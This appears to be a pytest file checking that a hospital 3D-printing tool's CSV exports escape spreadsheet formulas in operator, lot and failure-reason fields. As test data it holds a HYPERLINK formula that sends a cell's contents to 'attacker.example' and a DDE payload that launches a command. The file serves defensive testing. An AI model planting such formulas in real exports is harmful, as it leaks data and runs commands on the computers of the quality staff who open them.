"""The device history exported as CSV is opened in a spreadsheet by quality staff: free text a technician or
a printer wrote (operator, material lot, failure reason) must never run there as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from hospfab.fileio import spreadsheet_safe

from test_jobs import record

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'


def test_free_text_starting_like_a_formula_is_exported_as_text(cli):
    from hospfab.journal import Journal
    from hospfab.settings import Settings

    job = record(outcome="failed")
    journal = Journal(Settings.resolve().journal_path)
    journal.conn.execute("UPDATE jobs SET operator = ?, material_lot = ? WHERE id = ?", (FORMULA, "+1-555", job.id))
    journal.conn.commit()
    journal.close()
    out = cli("history", "--csv")
    assert out.exit_code == 0
    [row] = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["operator"] == "'" + FORMULA and row["material_lot"] == "'+1-555"
    assert row["revision"] == "2" and row["ref"] == "KNOB"  # ordinary cells untouched
    assert cli("history", "--json").json()["data"]["jobs"][0]["operator"] == FORMULA  # JSON keeps the record


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
                                             ("\tx", "'\tx"), ("ana", "ana"), (2, 2), (-1.5, -1.5)])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.xfail(strict=True, reason="queue.record.to_csv (lot record export, `lots export -o x.csv`) writes "
                   "operator, material lot and reason as they are: it should pass them through "
                   "hospfab.fileio.spreadsheet_safe like `history --csv`")
def test_lot_record_csv_exports_formulas_as_text():
    from hospfab.queue.record import to_csv

    job = {"id": "j1", "plate_id": "p1", "printer": "vt-0", "printer_profile": "prusa-mk4", "material": "petg",
           "material_lot": "L1", "operator": FORMULA, "started_at": None, "ended_at": None, "outcome": "failed",
           "reason": "=cmd|' /C calc'!A0", "remote_file": "f.gcode", "sha256": "ab" * 32}
    text = to_csv({"lot": {"id": "lot-1", "ref": "KNOB", "revision": 2}, "plates": [{"id": "p1", "units": 1}],
                   "attempts": [job]})
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert not row["operator"].startswith("=") and not row["reason"].startswith("=")
